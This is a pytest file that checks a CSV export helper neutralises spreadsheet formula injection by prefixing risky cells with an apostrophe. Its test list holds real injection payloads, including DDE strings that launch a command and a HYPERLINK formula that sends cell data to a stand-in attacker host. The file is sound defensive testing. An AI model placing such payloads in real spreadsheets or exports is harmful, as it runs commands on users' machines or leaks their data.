"""The one CSV writer: text never starts a formula, numbers stay numbers (issue 15, point 5)."""

from __future__ import annotations

import csv
import io

import pytest

from vocations.core.exports import csv_response, csv_text, neutral_cell

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example/?x="&A1;"Cliquez")',
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign, read as "=" by some spreadsheets
]


@pytest.mark.parametrize("label", ATTACKS)
def test_formula_cells_are_prefixed_with_an_apostrophe(label):
    assert neutral_cell(label) == "'" + label


@pytest.mark.parametrize(
    ("value", "expected"),
    [("Affiches Lyon", "Affiches Lyon"), ("a=b", "a=b"), (None, ""), (-3, -3), (2.5, 2.5)],
)
def test_ordinary_cells_and_numbers_are_kept(value, expected):
    assert neutral_cell(value) == expected


def test_csv_text_has_a_bom_semicolons_and_neutral_cells():
    text = csv_text(["libellé", "n"], [[label, -1] for label in ATTACKS[:4]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0] == ["libellé", "n"]
    assert [row[0][0] for row in rows[1:]] == ["'"] * 4
    assert [row[1] for row in rows[1:]] == ["-1"] * 4


def test_csv_response_streams_neutral_rows():
    response = csv_response("x.csv", ["a"], [["=1+1"], ["ok"]])
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert body.splitlines() == ["a", "'=1+1", "ok"]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
